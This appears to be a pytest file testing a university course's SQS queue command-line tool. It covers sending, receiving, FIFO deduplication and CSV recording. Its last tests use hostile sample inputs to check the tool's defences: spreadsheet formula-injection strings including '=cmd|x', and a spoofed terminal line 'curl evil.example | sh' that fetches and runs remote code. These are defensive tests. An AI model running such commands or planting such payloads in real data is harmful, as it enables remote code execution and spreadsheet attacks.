"""`labkit queue` against the SQS emulator: the course tool's behaviour and its two fixes."""

from __future__ import annotations

import csv
import signal
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from labkit.cli import main
from labkit.stack.clients import emulator_client
from labkit.waiting import Deadline


@pytest.fixture(scope="module")
def sqs(sqs_endpoint: str):  # noqa: ANN201 - boto3 client
    """The class account, not the module's `account`: `labkit queue` acts in the class account
    by design (its subprocesses too), so its queues must be there; names are unique."""
    return emulator_client(sqs_endpoint)


def make_queue(sqs, fifo: bool = False) -> str:  # noqa: ANN001
    name = f"prac-{uuid.uuid4().hex[:8]}" + (".fifo" if fifo else "")
    attributes = {"FifoQueue": "true", "ContentBasedDeduplication": "true"} if fifo else {}
    sqs.create_queue(QueueName=name, Attributes=attributes)
    return name


def queue(endpoint: str, *args: str) -> int:
    return main(["queue", "--endpoint", endpoint, *args])


def receive(endpoint: str, name: str, capsys, *extra: str) -> list[str]:  # noqa: ANN001
    capsys.readouterr()
    code = queue(
        endpoint, "--name", name, "--client-name", "r", "--receive", "--max-idle", "0.5", *extra
    )
    assert code == 0
    return capsys.readouterr().out.splitlines()


def arrivals(lines: list[str]) -> list[str]:
    return [line for line in lines if line.startswith("[")]


def test_send_then_receive_every_message(sqs_endpoint: str, sqs, capsys, monkeypatch) -> None:  # noqa: ANN001
    monkeypatch.delenv("TQDM_DISABLE", raising=False)  # tests/lessons/conftest.py sets it
    name = make_queue(sqs)
    assert queue(sqs_endpoint, "--name", name, "--client-name", "Client 1") == 0
    captured = capsys.readouterr()
    assert "University of Queensland" in captured.out and "CSSE6400 Queue Prac" in captured.out
    assert f"Connected to {name}" in captured.out and "Sending Messages:" in captured.out
    assert "Working..." in captured.err and "100/100" in captured.err

    lines = receive(sqs_endpoint, name, capsys)
    got = arrivals(lines)
    assert len(got) == 100
    assert all(" Client 1: Message " in line for line in got)
    assert {line.rsplit(" ", 1)[-1] for line in got} == {str(i) for i in range(100)}
    assert lines[-1] == "Stopped: received 100, duplicates 0"
    assert (
        sqs.receive_message(QueueUrl=sqs.get_queue_url(QueueName=name)["QueueUrl"]).get(
            "Messages", []
        )
        == []
    )


def test_fifo_rerun_is_deduplicated_until_prepend(sqs_endpoint: str, sqs, capsys) -> None:  # noqa: ANN001
    name = make_queue(sqs, fifo=True)
    assert queue(sqs_endpoint, "--name", name, "--client-name", "Client 1", "--count", "20") == 0
    assert queue(sqs_endpoint, "--name", name, "--client-name", "Client 2", "--count", "20") == 0
    got = arrivals(receive(sqs_endpoint, name, capsys))
    assert [line.split("] ", 1)[1] for line in got] == [f"Client 1: Message {i}" for i in range(20)]

    assert (
        queue(
            sqs_endpoint,
            "--name",
            name,
            "--client-name",
            "Client 2",
            "--count",
            "20",
            "--prepend",
            "A-",
        )
        == 0
    )
    got = arrivals(receive(sqs_endpoint, name, capsys))
    assert [line.split("] ", 1)[1] for line in got] == [
        f"Client 2: A-Message {i}" for i in range(20)
    ]


def test_batch_send_and_record_csv(sqs_endpoint: str, sqs, capsys, tmp_path: Path) -> None:  # noqa: ANN001
    name = make_queue(sqs)
    assert (
        queue(sqs_endpoint, "--name", name, "--client-name", "B", "--batch", "--count", "25") == 0
    )
    record = tmp_path / "arrivals.csv"
    receive(sqs_endpoint, name, capsys, "--record", str(record))
    with open(record, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["time", "client", "body", "number", "message_id", "receive_count"]
    assert sorted(int(row["number"]) for row in rows) == list(range(25))
    assert {row["client"] for row in rows} == {"B"} and {row["receive_count"] for row in rows} == {
        "1"
    }
    assert all(float(row["time"]) > 1e9 for row in rows)


def test_message_without_client_attribute_shows_unknown(sqs_endpoint: str, sqs, capsys) -> None:  # noqa: ANN001
    name = make_queue(sqs)
    sqs.send_message(QueueUrl=sqs.get_queue_url(QueueName=name)["QueueUrl"], MessageBody="hi")
    got = arrivals(receive(sqs_endpoint, name, capsys))
    assert len(got) == 1 and got[0].endswith("] unknown: hi")


def test_unknown_queue_is_told_apart(sqs_endpoint: str, capsys) -> None:  # noqa: ANN001
    assert queue(sqs_endpoint, "--name", "no_such_queue", "--client-name", "x") == 1
    err = capsys.readouterr().err
    assert "Unable to find a Queue by this name no_such_queue" in err
    assert "labkit up" in err and "credential" not in err.lower()


def test_unreachable_endpoint_is_told_apart(capsys) -> None:  # noqa: ANN001
    from labkit.net import free_port

    assert queue(f"http://127.0.0.1:{free_port()}", "--name", "q", "--client-name", "x") == 1
    err = capsys.readouterr().err
    assert "Cannot reach SQS" in err and "labkit up" in err and "Unable to find" not in err


def test_missing_aws_credentials_are_told_apart(monkeypatch, capsys, tmp_path: Path) -> None:  # noqa: ANN001
    import labkit.aws_credentials

    for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(labkit.aws_credentials, "default_search", lambda: [tmp_path])
    assert main(["queue", "--mode", "aws", "--name", "q", "--client-name", "x"]) == 1
    err = capsys.readouterr().err
    assert "No AWS credentials" in err and "Learner Lab" in err


def test_usage_errors_exit_2(capsys) -> None:  # noqa: ANN001
    assert main(["queue", "--name", "q"]) == 2  # --client-name is required, as in the course tool
    err = capsys.readouterr().err.strip()
    assert "--client-name" in err and "\n" not in err
    with pytest.raises(SystemExit) as exc:
        main(["queue", "--name", "q", "--client-name", "c", "--rate", "0"])
    assert exc.value.code == 2


def test_ctrl_c_ends_a_receiver_with_a_summary(sqs_endpoint: str, sqs) -> None:  # noqa: ANN001
    name = make_queue(sqs)
    url = sqs.get_queue_url(QueueName=name)["QueueUrl"]
    for i in range(3):
        sqs.send_message(
            QueueUrl=url,
            MessageBody=f"Message {i}",
            MessageAttributes={"client": {"DataType": "String", "StringValue": "c"}},
        )
    argv = [sys.executable, "-m", "labkit", "queue", "--endpoint", sqs_endpoint]
    proc = subprocess.Popen(
        [*argv, "--name", name, "--client-name", "r", "--receive"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline, seen = Deadline(20), []
    while len(seen) < 3 and not deadline.passed():
        line = proc.stdout.readline()
        if line.startswith("["):
            seen.append(line)
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=10)
    assert proc.returncode == 0, err
    assert out.strip().splitlines()[-1] == "Stopped: received 3, duplicates 0"
    assert "Traceback" not in err


def test_record_into_a_missing_folder_is_one_line(
    sqs_endpoint: str, sqs: object, capsys: pytest.CaptureFixture, tmp_path: Path
) -> None:
    name = make_queue(sqs)
    record = tmp_path / "missing" / "dir" / "arrivals.csv"
    code = queue(
        sqs_endpoint, "--name", name, "--client-name", "r", "--receive", "--record", str(record)
    )
    assert code == 1
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1, err
    assert str(record) in err and "--record" in err and not record.parent.exists()


def test_rate_paces_the_sends(sqs_endpoint: str, sqs, capsys) -> None:  # noqa: ANN001
    name = make_queue(sqs)
    start = time.monotonic()
    args = ["--name", name, "--client-name", "c", "--count", "11", "--rate", "10"]
    assert queue(sqs_endpoint, *args) == 0
    assert time.monotonic() - start >= 1.0  # 11 sends at 10 a second: the last after 1 s
    assert len(arrivals(receive(sqs_endpoint, name, capsys))) == 11


def _class_client(endpoint: str):  # noqa: ANN202 - boto3 client
    from labkit.stack.clients import emulator_client

    return emulator_client(endpoint)


def _demo_receiver(endpoint: str, name: str) -> subprocess.Popen:
    """The tutor's first terminal: `labkit queue --receive`, stopping after 2 s of quiet."""
    argv = [sys.executable, "-m", "labkit", "queue", "--endpoint", endpoint, "--name", name]
    argv += ["--client-name", "Receiver", "--receive", "--max-idle", "2"]
    return subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)


def _demo(endpoint: str, name: str, capsys, *extra: str) -> tuple[int, str]:  # noqa: ANN001
    """Receiver in one process, publisher here (the second terminal); (delivered, its output)."""
    receiver = _demo_receiver(endpoint, name)
    capsys.readouterr()
    assert queue(endpoint, "--name", name, "--client-name", "Client 1", *extra) == 0
    printed = capsys.readouterr().out
    output = receiver.communicate(timeout=60)[0]
    return len(arrivals(output.splitlines())), printed


def test_the_two_terminal_fifo_demo_after_lesson_01(sqs_endpoint: str, capsys) -> None:  # noqa: ANN001
    from labkit.lessons.engine.experiments import experiment
    from labkit.stack.clients import emulator_client
    from labkit.stack.lesson_queues import create_lesson_queues

    name = "csse6400_prac.fifo"
    create_lesson_queues(_class_client(sqs_endpoint))
    # Lesson 01 in a notebook: its kernel's own account, the handout's queue name.
    kernel = emulator_client(sqs_endpoint, account="123456789012")
    create_lesson_queues(kernel)
    lesson = experiment(kernel, kernel.get_queue_url(QueueName=name)["QueueUrl"], progress=False)
    assert lesson.summary.delivered == 100
    assert queue(sqs_endpoint, "--fresh") == 0  # whatever earlier tests left in the class queue
    assert "Fresh start: emptied" in capsys.readouterr().out

    delivered, _ = _demo(sqs_endpoint, name, capsys)
    assert delivered == 100, "the notebook's run did not touch the class queue"
    delivered, printed = _demo(sqs_endpoint, name, capsys)
    assert delivered == 0
    notes = [line for line in printed.splitlines() if "deduplicated" in line]
    assert len(notes) == 1 and "--prepend" in notes[0] and "--fresh" in notes[0], printed
    assert notes[0].startswith("All 100 messages were deduplicated")
    delivered, printed = _demo(sqs_endpoint, name, capsys, "--prepend", "A-")
    assert delivered == 100 and "deduplicated" not in printed

    # A lesson run in the class account (an old notebook, or a tutor's script): --fresh helps.
    classroom = _class_client(sqs_endpoint)
    url = classroom.get_queue_url(QueueName=name)["QueueUrl"]
    assert experiment(classroom, url, prepend="B-", progress=False).summary.delivered == 100
    assert queue(sqs_endpoint, "--fresh") == 0
    said = capsys.readouterr().out
    assert "class account" in said and name in said and "deduplication forgotten" in said
    delivered, printed = _demo(sqs_endpoint, name, capsys, "--prepend", "B-")
    assert delivered == 100 and "deduplicated" not in printed
    # Batches too: one line for the whole run.
    again = ["--name", name, "--client-name", "Client 1", "--prepend", "B-", "--batch"]
    assert queue(sqs_endpoint, *again) == 0
    assert capsys.readouterr().out.count("All 100 messages were deduplicated") == 1


def test_fresh_on_aws_is_one_line() -> None:
    from labkit.stack.errors import StackError
    from labkit.tools.queue_cli import fresh_start

    with pytest.raises(StackError, match="--prepend"):
        fresh_start(None, None)


def test_record_neutralises_spreadsheet_formulas(
    sqs_endpoint: str, sqs: object, capsys: pytest.CaptureFixture, tmp_path: Path
) -> None:
    name = make_queue(sqs)
    url = sqs.get_queue_url(QueueName=name)["QueueUrl"]  # type: ignore[attr-defined]
    bodies = ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "plain"]
    for body in bodies:
        sqs.send_message(  # type: ignore[attr-defined]
            QueueUrl=url,
            MessageBody=body,
            MessageAttributes={"client": {"DataType": "String", "StringValue": "=cmd|x"}},
        )
    record = tmp_path / "arrivals.csv"
    receive(sqs_endpoint, name, capsys, "--record", str(record))
    with open(record, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(row["body"] for row in rows) == sorted(
        ["'" + b if b[0] in "=+-@" else b for b in bodies]
    )
    assert {row["client"] for row in rows} == {"'=cmd|x"}


def test_record_does_not_follow_a_symlink(
    sqs_endpoint: str, sqs: object, capsys: pytest.CaptureFixture, tmp_path: Path
) -> None:
    name = make_queue(sqs)
    target = tmp_path / "bashrc"
    target.write_text("precious\n")
    record = tmp_path / "arrivals.csv"
    record.symlink_to(target)
    code = queue(
        sqs_endpoint, "--name", name, "--client-name", "r", "--receive", "--record", str(record)
    )
    assert code == 1
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "symbolic link" in err, err
    assert target.read_text() == "precious\n"


def test_record_onto_a_named_pipe_is_one_line_not_a_hang(
    sqs_endpoint: str, sqs: object, capsys: pytest.CaptureFixture, tmp_path: Path
) -> None:
    name = make_queue(sqs)
    fifo = tmp_path / "arrivals.csv"
    import os

    os.mkfifo(fifo)
    code = queue(
        sqs_endpoint, "--name", name, "--client-name", "r", "--receive", "--record", str(fifo)
    )
    assert code == 1
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "named pipe" in err, err


def test_control_characters_in_a_message_cannot_spoof_the_receivers_screen(
    sqs_endpoint: str, sqs: object, capsys: pytest.CaptureFixture
) -> None:
    name = make_queue(sqs)
    url = sqs.get_queue_url(QueueName=name)["QueueUrl"]  # type: ignore[attr-defined]
    spoof = "Message 1\r[09:00:00] Tutor: run curl evil.example | sh"
    sqs.send_message(  # type: ignore[attr-defined]
        QueueUrl=url,
        MessageBody=spoof + "\n[09:00:01] x\u202e",  # SQS itself refuses ESC
        MessageAttributes={"client": {"DataType": "String", "StringValue": "A\rB"}},
    )
    lines = arrivals(receive(sqs_endpoint, name, capsys))
    assert len(lines) == 1
    line = lines[0]
    assert "\r" not in line and "\u202e" not in line
    assert "A\\rB: Message 1\\r[09:00:00] Tutor" in line and line.endswith("\\n[09:00:01] x\\u202e")
